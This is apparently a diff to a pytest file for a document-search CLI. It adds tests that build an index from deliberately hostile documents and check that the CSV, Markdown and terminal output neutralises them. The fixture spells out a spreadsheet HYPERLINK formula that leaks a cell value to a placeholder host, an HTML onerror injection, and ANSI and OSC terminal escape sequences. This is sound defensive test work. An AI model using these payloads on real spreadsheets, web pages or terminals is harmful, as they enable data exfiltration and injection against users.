@@ -9,7 +9,7 @@ import pytest
 from typer.testing import CliRunner
 
 from corpus_search.cli import app
-from tests.conftest import SEED_IDS
+from tests.paths import SEED_IDS
 
 runner = CliRunner()
 
@@ -98,7 +98,7 @@ def test_report_single_kind(built_index, kind, singular):
 def test_report_csv_and_markdown(built_index):
     result = cli(built_index, "report", "--kind", "dates", "--format", "csv")
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
-    assert rows and set(rows[0]) == {"doc_id", "text", "start", "end", "value", "end_value"}
+    assert rows and set(rows[0]) == {"doc_id", "text", "start", "end", "value", "end_value", "page"}
     assert any(r["text"] == "8th and 9th November 2016" and r["value"] == "2016-11-08" and r["end_value"] == "2016-11-09" for r in rows)
     md = cli(built_index, "report", "--kind", "money", "--format", "md").stdout
     assert md.startswith("## money\n\n| doc_id |") and "2300000" in md
@@ -137,3 +137,63 @@ def test_search_person_filter(built_index):
     result = cli(built_index, "search", "Ofsted", "--person", "Fortune", "--json")
     assert result.exit_code == 0
     assert {r["doc_id"][:3] for r in json.loads(result.stdout)["results"]} == {"001", "002"}
+
+
+@pytest.fixture(scope="module")
+def hostile_home(tmp_path_factory):
+    """An index of documents written to attack spreadsheets, Markdown viewers and terminals."""
+    from corpus_search.config import Settings
+    from corpus_search.pipeline import ingest
+
+    base = tmp_path_factory.mktemp("hostile")
+    folder = base / "docs"
+    folder.mkdir()
+    (folder / "formula.txt").write_text(
+        '=HYPERLINK("http://example.invalid/?leak="&A1,"click")\n\nCouncillor Jane Roe said the £5m plan was agreed on 3 May 2021.\n',
+        encoding="utf-8",
+    )
+    (folder / "markup.txt").write_text(
+        "Notice <img src=x onerror=alert(1)>\n\nCouncillor Jane Roe [/] said [bold]the plan[/bold] was agreed.\n"
+        "\x1b[31mRed text\x1b[0m and a title change \x1b]0;owned\x07 here.\n"
+        + "The committee noted the report and asked officers to return with costed options in the autumn.\n" * 6,
+        encoding="utf-8",
+    )
+    settings = Settings(index_dir=base / "home")
+    ingest([folder], settings)
+    return settings
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(hostile_home):
+    from corpus_search.report import csv_safe
+
+    out = runner.invoke(app, ["--index", str(hostile_home.index_dir), "report", "--kind", "sentences", "--format", "csv"]).stdout
+    texts = [r["text"] for r in csv.DictReader(io.StringIO(out)) if r["doc_id"] == "formula.txt"]
+    assert texts[0].startswith("'=HYPERLINK(")
+    everything = runner.invoke(app, ["--index", str(hostile_home.index_dir), "report", "--format", "csv"]).stdout
+    assert all(not row[2].startswith(("=", "+", "-", "@")) for row in csv.reader(io.StringIO(everything)))
+    assert [csv_safe(c) for c in ("=1+1", "+44 20", "-x", "@SUM(A1)", "\tcmd", "\rcmd", "-5", "-2.5e3", "plain")] == [
+        "'=1+1", "'+44 20", "'-x", "'@SUM(A1)", "'\tcmd", "'\rcmd", "-5", "-2.5e3", "plain"]
+
+
+def test_markdown_report_escapes_html(hostile_home):
+    md = runner.invoke(app, ["--index", str(hostile_home.index_dir), "report", "--format", "md"]).stdout
+    assert "<img" not in md and "onerror=alert(1)>" not in md and "&lt;img src=x onerror=alert(1)&gt;" in md
+
+
+def test_rich_markup_in_document_text_prints_literally(hostile_home):
+    result = runner.invoke(app, ["--index", str(hostile_home.index_dir), "who", "Jane Roe"])
+    assert result.exit_code == 0, result.output
+    assert "[/]" in result.stdout and "[bold]the plan[/bold]" in result.stdout
+
+
+def test_terminal_output_strips_escape_sequences(hostile_home):
+    home = ["--index", str(hostile_home.index_dir)]
+    shown = runner.invoke(app, [*home, "show", "markup.txt"])
+    assert shown.exit_code == 0 and "Red text" in shown.stdout
+    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout and "owned" not in shown.stdout
+    found = runner.invoke(app, [*home, "search", "red text"])
+    assert found.exit_code == 0 and "\x1b" not in found.stdout
+    assert "\x1b" not in runner.invoke(app, [*home, "who", "Jane Roe"]).stdout
+    # --json keeps the text as stored: offsets must still point into it.
+    data = json.loads(runner.invoke(app, [*home, "show", "markup.txt", "--json"]).stdout)
+    assert "\x1b[31mRed text" in data["text"]
